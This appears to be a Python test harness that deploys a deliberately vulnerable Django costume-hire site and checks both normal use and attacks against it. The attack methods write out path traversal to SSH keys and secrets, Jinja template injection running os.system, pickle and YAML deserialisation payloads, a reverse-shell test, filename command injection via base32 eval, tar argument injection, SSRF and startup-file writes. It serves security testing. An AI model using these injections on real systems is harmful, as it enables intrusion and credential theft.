# SPDX-License-Identifier: Apache-2.0
"""A theatre's wardrobe: a Django site behind waitress, with its admin."""
import base64
import io
import json
import os
import pickle
import re
import zipfile

import openpyxl
from PIL import Image
from reportlab.pdfgen import canvas

from attackers import Bomb, in_yaml
import stage

PEOPLE = ["nora", "piet", "ruth", "Jean Luc", "d.vries", "ana+maria"]
MEASURES = {"__init__.py": "def european(size):\n"
                           "    return size.strip().upper()\n"}
MEASURES_NEW = {
    "__init__.py": "from measures.table import european\n",
    "table.py": "import json\nimport pathlib\n\n\ndef european(size):\n"
                "    path = pathlib.Path(__file__).with_name('sizes.json')\n"
                "    with path.open(encoding='utf-8') as file:\n"
                "        sizes = json.load(file)\n"
                "    return sizes.get(size.strip(), size.strip().upper())\n",
    "sizes.json": '{"s": "36", "m": "40", "l": "44"}\n'}


def picture(kind, side=40):
    """A picture as a camera writes it."""
    out = io.BytesIO()
    Image.effect_noise((side, side), 60).convert("RGB").save(out, kind)
    return out.getvalue()


def paper(text):
    """A PDF with one line."""
    out = io.BytesIO()
    page = canvas.Canvas(out)
    page.drawString(70, 780, text)
    page.save()
    return out.getvalue()


def book(rows):
    """A workbook with costumes."""
    made = openpyxl.Workbook()
    for row in [("name", "size", "cents"), *rows]:
        made.active.append(row)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


class Visitor(stage.Browser):
    """Sends the token that every form has."""

    def token(self, path="/accounts/login/"):
        found = re.search(rb'csrfmiddlewaretoken" value="(\w+)"',
                          self.get(path)[1])
        return found.group(1).decode() if found else ""

    def send(self, path, **form):
        return self.post(path, csrfmiddlewaretoken=self.token(), **form)

    def send_file(self, path, name, content, kind, field, **form):
        return self.upload(path, name, content, kind, field,
                           csrfmiddlewaretoken=self.token(), **form)


class DjangoWardrobe(stage.Service):
    """Costumes, photos, hires and reports (Django, admin, waitress)."""
    packages = ["python3-django", "python3-waitress", "python3-pil",
                "python3-openpyxl", "python3-reportlab", "python3-jinja2",
                "python3-yaml", "poppler-utils", "zip"]

    def arrange(self):
        for name in ("log", "sessions", "cache", "mail", "media"):
            (self.srv / "var" / name).mkdir(parents=True)
        stage.write(self.srv / "var/secret.key", "key-" + stage.SECRET, 0o600)
        self.install("measures", "2.3.0", MEASURES)
        self.seed("var/hire.db", self.python, "manage.py", "seed_people",
                  *PEOPLE)

    def arrange_benign(self):
        self.install("measures", "2.4.0", MEASURES_NEW)

    def command(self):
        return [self.python, "/usr/bin/waitress-serve", "--threads=4",
                f"--listen=127.0.0.1:{self.port('web')}",
                "hire.wsgi:application"]

    # ------------------------------------------------------------ ordinary use
    def enter(self, name, language="en"):
        visitor = Visitor(f"http://127.0.0.1:{self.port('web')}")
        visitor.opener.addheaders.append(("Accept-Language", language))
        self.expect_answer(f"{name} enters", visitor.send(
            "/accounts/login/", username=name, password=name[::-1]),
            "Welcome")
        return visitor

    def leave(self, visitor):
        self.expect_answer("leaves", visitor.send("/accounts/logout/"))

    def look(self, visitor, word, number):
        self.expect_answer(f"costumes with {word}", visitor.get(
            "/costumes/", q=word), "<ul>")
        self.expect_answer(f"costume {number}", visitor.get(
            f"/costumes/{number}/"), "size")

    def send_photo(self, visitor, number, album, name, content, kind):
        self.expect_answer(f"photo {name}", visitor.send_file(
            f"/costumes/{number}/photos/", name, content, f"image/{kind}",
            "picture", album=album), "is there")
        self.expect_answer(f"photo {name} back", visitor.get(
            "/photos/", name=f"{number}/{album}/{name}"), content[:20])

    def pack(self, visitor, number, *names):
        body = self.expect_answer("pack", visitor.fetch(
            f"/costumes/{number}/pack/?" + "&".join(
                "name=" + stage.urllib.parse.quote(name) for name in names)),
            b"PK")
        self.expect("packed", body and len(zipfile.ZipFile(io.BytesIO(
            body)).namelist()) == len(names))

    def hire(self, visitor, number, first, last, rule, agreement):
        page = self.expect_answer(f"hire of {number}", visitor.send(
            "/hires/", costume=number, first=first, last=last, rule=rule),
            "is yours")
        mine = max(map(int, re.findall(rb'<p id="(\d+)"', page or b"")),
                   default=0)
        self.expect_answer(f"agreement {agreement}", visitor.send_file(
            f"/hires/{mine}/agreement/", agreement, paper("I agree"),
            "application/pdf", "agreement", title=agreement), "I agree")

    def reports(self, visitor, month, *kinds):
        for kind, start in (("csv", "costume,"), ("xlsx", "PK"),
                            ("pdf", "%PDF")):
            if kind in (kinds or ("csv", "xlsx", "pdf")):
                self.expect_answer(f"report {month}.{kind}", visitor.get(
                    f"/reports/{month}.{kind}"), start)

    def errands(self, visitor, text, wishes, formula, page):
        self.expect_answer("letter", visitor.send(
            "/letter/", text=text + " {{ person|title }}"), text)
        for wish in wishes:
            self.expect_answer(f"wish {wish}", visitor.send(
                "/wishes/", wish=wish), "wishes")
        self.expect_answer("fee", visitor.get("/fee/", formula=formula))
        self.site("tailor").page("*", "cloth 12 metres")
        self.expect_answer("supplier", visitor.get(
            "/supplier/", url=self.site("tailor").url + page), "cloth")

    def bring(self, visitor, name, content, count):
        self.expect_answer(f"table {name}", visitor.send_file(
            "/stock/", name, content, "application/octet-stream", "table"),
            json.dumps({"taken": count}))

    def office(self, name, size, word, number):
        """Somebody in the admin."""
        visitor = self.enter("office")
        self.expect_answer("admin", visitor.get("/admin/"), "Costumes")
        self.expect_answer("admin adds", visitor.send(
            "/admin/stock/costume/add/", name=name, size=size, cents=900,
            notes="new", _save="Save"), "was added")
        self.expect_answer("admin list", visitor.get(
            "/admin/stock/costume/", q=word), "result")
        self.expect_answer("admin form", visitor.get(
            f"/admin/stock/costume/{number}/change/"), "History")
        self.expect_answer("admin changes", visitor.send(
            f"/admin/stock/costume/{number}/change/", name=f"robe {number}",
            size=size, cents=1200, notes="mended", _save="Save"),
            "was changed")
        self.expect_answer("admin history", visitor.get(
            f"/admin/stock/costume/{number}/history/"), "Change")
        self.expect_answer("admin hires", visitor.get("/admin/stock/hire/"))
        return visitor

    def nightly(self, *commands):
        """What runs while the site is closed: ((words, what it prints))."""
        self.halt()
        for words, found in commands:
            words = words.split(" ", 3)
            self.expect_run(words, self.run(self.python, "manage.py", *words),
                            found=found)
        self.start()

    def join(self, name, word):
        visitor = Visitor(f"http://127.0.0.1:{self.port('web')}")
        self.expect_answer(f"{name} joins", visitor.send(
            "/accounts/join/", username=name, password1=word,
            password2=word), "password")

    def train(self, day):
        month = f"2026-0{day + 3}"
        visitor = self.browser()
        self.expect_answer("home", visitor.get("/"), "costumes")
        self.expect_answer("stranger", visitor.get("/costumes/"), "password")
        self.expect_answer("no such page", visitor.get(f"/old-{day}.html"),
                           status=404)
        visitor = Visitor(f"http://127.0.0.1:{self.port('web')}")
        self.expect_answer("wrong password", visitor.send(
            "/accounts/login/", username="nora", password=f"x{day}"),
            "Please enter")
        self.join(f"guest{day}", f"Quark-{day}-Turm")
        self.join(["mia.k", "tom_b", "x-ray"][day - 1], "Lang3sPasswort")
        self.office(f"cloak {day}", "M", f"cloak {day}", 3 + day)
        for name, language, number, file, kind in (
                ("nora", "en", day, f"front{day}.png", "png"),
                ("piet", "de", day + 4, f"IMG_20260{day}11.jpg", "jpeg"),
                ("ruth", ["nl", "sv", "da"][day - 1], 2 * day + 3,
                 f"back view.v{day}.gif", "gif")):
            visitor = self.enter(name, language)
            self.look(visitor, ["velvet", "costume", "1"][day - 1], number)
            album = f"spring-202{day}"
            self.send_photo(visitor, number, album, file, picture(kind), kind)
            self.send_photo(visitor, number, "details/sleeves",
                            f"detail-{day}{name[0]}.png", stage.png(day + 9),
                            "png")
            self.pack(visitor, number, f"{album}/{file}",
                      f"details/sleeves/detail-{day}{name[0]}.png")
            self.hire(visitor, number, f"{month}-0{day}", f"{month}-1{day}",
                      ["daily", "weekly"][number % 2],
                      f"agreement {name} {day}.pdf")
            self.reports(visitor, month)
            self.errands(visitor, f"Dear {name}", [f"hat {day}", "gloves"],
                         f"{day}*12+3", f"/cloth/{number}?day={day}")
            self.leave(visitor)
        visitor = self.enter("nora")
        self.pack(visitor, day, f"spring-202{day}/front{day}.png")
        self.bring(visitor, f"delivery-{day}.csv",
                   f"name,size,cents\nshawl {day},S,40{day}\n".encode(), 1)
        self.bring(visitor, f"Inventory 202{day}.xlsx", book(
            [(f"boots {day}", str(38 + day), 700)] * 2), 2)
        self.bring(visitor, f"rest{day}.yaml",
                   f"- [ruff {day}, L, 250]\n".encode(), 1)
        self.expect_answer("no picture", visitor.send_file(
            f"/costumes/{day}/photos/", f"notes{day}.png", b"no picture",
            "image/png", "picture", album="x"), status=400)
        self.expect_answer("no table", visitor.send_file(
            "/stock/", f"torn{day}.csv", b"a,b,c\nx,y,z\n", "text/csv",
            "table"), status=400)
        self.expect_answer("no costume", visitor.get(f"/costumes/9{day}9/"),
                           status=404)
        self.expect_answer("no photo", visitor.get(
            "/photos/", name=f"{day}/none{day}.png"), status=404)
        if day == 2:
            self.send_photo(visitor, 7, "poster", "large.png", picture(
                "png", 1100), "png")
        self.nightly((f"overdue {month}-28", "reminded"),
                     (f"monthly {month}", "xlsx"),
                     (f"monthly {month} --kind csv", ".csv"),
                     ("clearsessions", ""))
        self.look(self.enter(["nora", "piet", "ruth"][day - 1]), "1", day)

    def benign(self):
        self.join("Zoë_Ü", "Sehr-langes-Wort-8")
        for name, language, number, month, file, kind in (
                ("Jean Luc", "fr-CH, fr;q=0.9, en;q=0.5", 9, "2027-12",
                 "vue de côté (2).webp", "webp"),
                ("d.vries", "it", 11, "2031-01", "scan.final.2.bmp", "bmp"),
                ("ana+maria", "pt-br", 12, "2026-10", "DSC 0001.JPG",
                 "jpeg"),
                ("nora", "en", 1, "2026-04", "front1.png", "png")):
            visitor = self.enter(name, language)
            self.look(visitor, "Größe & 50%", number)
            album = f"Premiere {month}/second act/left"
            self.send_photo(visitor, number, album, file, picture(kind), kind)
            self.send_photo(visitor, number, "x", "a.png", stage.png(5),
                            "png")
            self.pack(visitor, number, f"{album}/{file}", "x/a.png")
            self.hire(visitor, number, f"{month}-03", f"{month}-21",
                      ["weekly", "daily"][number % 2],
                      f"Vertrag Nr. {number} (Kopie) {name}.pdf")
            self.reports(visitor, month)
            self.errands(visitor, "Grüße", ["crown", "ring", "18 m rope"],
                         "(3+4)/2", f"/a/b/c/{month}.html?q=red%20silk")
            self.leave(visitor)
        visitor = self.office("Robe à la française", "38/40", "robe", 8)
        self.expect_answer("admin, sorted", visitor.get(
            "/admin/stock/costume/", o="-3", size="38/40"), "result")
        self.expect_answer("admin deletes", visitor.send(
            "/admin/stock/costume/10/delete/", post="yes"), "was deleted")
        visitor = self.enter("piet", "de")
        self.bring(visitor, "Liste vom 3. März.CSV",
                   "name,size,cents\nHut,58,1\nMütze,M,2\n".encode(), 2)
        self.bring(visitor, "b.xlsx", book([("cape", "L", 10)] * 40), 40)
        self.bring(visitor, "more.v2.yml", b"- [fan, S, 3]\n", 1)
        self.bring(visitor, "huge.csv", b"name,size,cents\n" + b"\n".join(
            b"pin %d,S,%d" % (n % 9, n) for n in range(3)) + b"\n", 3)
        self.send_photo(visitor, 6, "posters", "very large.png", picture(
            "png", 1300), "png")
        self.reports(visitor, "2029-02", "csv")
        self.expect_answer("on another paper", visitor.get(
            "/reports/2026-04.pdf", paper="A3"), "%PDF")
        self.expect_answer("no such kind", visitor.get(
            "/reports/2026-04.ods"), status=404)
        self.expect_answer("no costume", visitor.get("/costumes/4711/"),
                           status=404)
        self.expect_answer("no photo", visitor.get(
            "/photos/", name="9/no such album/b c.jpg"), status=404)
        self.expect_answer("no picture", visitor.send_file(
            "/costumes/5/photos/", "readme (1).jpeg", b"\xff\xd8 torn",
            "image/jpeg", "picture", album="y"), status=400)
        self.expect_answer("no table", visitor.send_file(
            "/stock/", "x y.csv", b"a,b\n1\n", "text/csv", "table"),
            status=400)
        self.expect_answer("dates that are none", visitor.send(
            "/hires/", costume=5, first="2026-02-31", last="x"), "errorlist")
        self.expect_answer("no token", visitor.post("/wishes/", wish="x"),
                           status=403)
        self.nightly(("overdue 2032-01-01", "reminded"),
                     ("overdue 2026-12-24 --person Jean Luc", "reminded"),
                     ("monthly 2031-01", "xlsx"),
                     ("monthly 2027-12 --kind pdf", ".pdf"),
                     ("clearsessions", ""))
        self.look(self.enter("ruth", "sv"), "velvet", 2)

    def health(self):
        visitor = self.enter("nora")
        self.look(visitor, "costume", 2)
        self.send_photo(visitor, 1, "spring-2021", "front1.png",
                        stage.png(20), "png")
        self.reports(visitor, "2026-04", "csv")

    # ----------------------------------------------------------------- attacks
    def gets(self, path, **query):
        return self.enter("nora").get(path, **query)[1]

    @staticmethod
    def hired(visitor):
        """A hire's number."""
        page = visitor.send("/hires/", costume=1, first="2026-04-01",
                            last="2026-04-02", rule="daily")[1]
        return max(map(int, re.findall(rb'<p id="(\d+)"', page)))

    @staticmethod
    def agree(visitor, number, name, content):
        visitor.send_file(f"/hires/{number}/agreement/", "a.pdf", content,
                          "application/pdf", "agreement", title=name)

    def agree_to(self, path, text):
        visitor = self.enter("nora")
        self.agree(visitor, self.hired(visitor), str(path), text.encode())
        return visitor

    def plants(self, album, name, content=None):
        self.enter("nora").send_file(
            "/costumes/1/photos/", name, content or stage.png(8),
            "image/png", "picture", album=str(album))

    def renders(self, code):
        """code: an expression."""
        return self.enter("nora").send("/letter/", text=(
            "{{ cycler.__init__.__globals__.__builtins__." + code + " }}"))[1]

    def cookies(self, wish):
        """Of somebody who has entered, with a wish of his own."""
        visitor = self.enter("nora")
        jar = next(handler.cookiejar for handler in visitor.opener.handlers
                   if hasattr(handler, "cookiejar"))
        return "; ".join([f"{cookie.name}={cookie.value}" for cookie in jar]
                         + [f"wishes={wish}"])

    def wishes_bomb(self, *call):
        visitor = Visitor(f"http://127.0.0.1:{self.port('web')}")
        return visitor.fetch("/wishes/", headers={"Cookie": self.cookies(
            base64.b64encode(pickle.dumps(Bomb(*call))).decode())})

    @stage.attack("traversal")
    def photo_is_a_private_key(self):
        self.plants("x", "a.png")
        return self.is_told(self.gets(
            "/photos/", name="../../../../home/.ssh/id_rsa"))

    @stage.attack("source disclosure")
    def photo_is_the_source(self):
        return b"HOLE" in self.gets("/photos/",
                                    name=f"{self.srv}/stock/views.py")

    @stage.attack("secret disclosure")
    def photo_is_the_signing_key(self):
        return self.is_told(self.gets("/photos/",
                                      name="../../secret.key"))

    @stage.attack("secret disclosure")
    def photo_is_the_database(self):
        return b"SQLite" in self.gets("/photos/", name="../../hire.db")

    @stage.attack("secret disclosure")
    def photo_is_a_session(self):
        self.enter("office")
        sessions = self.srv / "var/sessions"
        return any(b":" in self.gets("/photos/", name=str(path))
                   and len(path.read_bytes()) > 40 and b"here" not in
                   self.gets("/photos/", name=str(path))
                   for path in list(sessions.iterdir())[-2:])

    @stage.attack("write to code", fresh=True)
    def agreement_replaces_a_template(self):
        path = self.srv / "stock/templates/stock/costumes.html"
        self.agree_to(path, "planted")
        return "planted" in path.read_text()

    @stage.attack("write to code", fresh=True)
    def agreement_becomes_a_rule(self):
        def use(line):
            visitor = self.agree_to("../../../../pricing/evil.py",
                                    f"import os\nos.system('{line}')\n")
            visitor.send("/hires/", costume=1, first="2026-04-01",
                         last="2026-04-02", rule="evil")
        return self.runs_line(use)

    @stage.attack("write to start-up file", fresh=True)
    def agreement_replaces_the_profile(self):
        self.agree_to(self.home / ".profile", "planted")
        return "planted" in (self.home / ".profile").read_text()

    @stage.attack("write to start-up file", fresh=True)
    def agreement_becomes_a_pth_file(self):
        self.agree_to(self.site_packages / "x.pth", "import os")
        return (self.site_packages / "x.pth").exists()

    @stage.attack("write elsewhere", fresh=True)
    def album_is_in_somebodys_home(self):
        self.plants(self.home / ".config/autostart", "a.png")
        return (self.home / ".config/autostart/a.png").exists()

    @stage.attack("template injection")
    def letter_reads_a_password(self):
        return self.is_told(self.renders(
            f"open('{self.home}/.netrc').read()"))

    @stage.attack("template injection")
    def letter_runs_a_command(self):
        return self.runs_line(lambda line: self.renders(
            f"__import__('os').system('{line}')"))

    @stage.attack("exfiltration")
    def letter_sends_credentials(self):
        return self.steals(lambda code: self.renders(f"exec({code!r})"))

    @stage.attack("SSRF")
    def supplier_is_an_internal_service(self):
        return self.fetches_inside(
            lambda url: self.gets("/supplier/", url=url))

    @stage.attack("SSRF")
    def supplier_is_redirected_inside(self):
        return self.is_redirected_inside(
            "tailor", lambda url: self.gets("/supplier/", url=url))

    @stage.attack("secret disclosure")
    def supplier_is_a_local_file(self):
        return self.is_told(self.gets(
            "/supplier/", url=f"file://{self.place}/payroll/2026.csv"))

    @stage.attack("command injection")
    def agreement_runs_a_command(self):
        def use(line):
            visitor = self.enter("nora")
            code = base64.b32encode(line.encode()).decode()
            self.agree(visitor, self.hired(visitor),
                       f'a.pdf"; eval "$(echo {code} | base32 -d)"; "',
                       paper("x"))
        return self.runs_line(use)

    @stage.attack("argument injection")
    def pack_tests_with_a_command(self):
        self.plants("x", "a.png")
        return self.runs_line(lambda line: self.enter("nora").fetch(
            "/costumes/1/pack/?" + stage.urllib.parse.urlencode(
                [("name", "x/a.png"), ("name", "-T"), ("name", "-TT"),
                 ("name", f"{line}; true")])))

    @stage.attack("traversal")
    def pack_holds_the_payroll(self):
        self.plants("x", "a.png")
        body = self.gets("/costumes/1/pack/",
                         name="../../../../../payroll/2026.csv")
        return body[:2] == b"PK" and b"payroll" in body

    @stage.attack("unsafe pickle")
    def wish_runs_a_command(self):
        return self.runs_line(lambda line: self.wishes_bomb(os.system, line))

    @stage.attack("reverse shell")
    def wish_calls_home(self):
        return self.calls_home(lambda code: self.wishes_bomb(exec, code))

    @stage.attack("unsafe yaml")
    def table_runs_a_command(self):
        return self.runs_line(lambda line: self.enter("nora").send_file(
            "/stock/", "a.yaml", in_yaml(
                f"import os; os.system({line!r})").encode(), "text/yaml",
            "table"))

    @stage.attack("eval injection")
    def formula_reads_the_environment(self):
        return b"HOME=" in self.gets(
            "/fee/", formula="open('/proc/self/environ').read()")

    @stage.attack("fork+exec")
    def formula_forks(self):
        return self.forks(lambda code: self.gets(
            "/fee/", formula=f"exec({code!r})"))

    @stage.attack("ctypes")
    def formula_calls_libc(self):
        return self.runs_libc(lambda code: self.gets("/fee/", formula=code))

    @stage.attack("symlink swap", fresh=True)
    def photo_became_a_link(self):
        self.plants("x", "a.png")
        path = self.srv / "var/media/photos/1/x/a.png"
        path.unlink()
        path.symlink_to(self.place / "payroll/2026.csv")
        return self.is_told(self.gets("/photos/", name="1/x/a.png"))

    @stage.attack("malicious dependency", fresh=True)
    def measures_steal_credentials(self):
        def use():
            self.restart()
            self.gets("/costumes/1/")
        return self.dependency_steals("measures", "2.3.1", MEASURES, use)
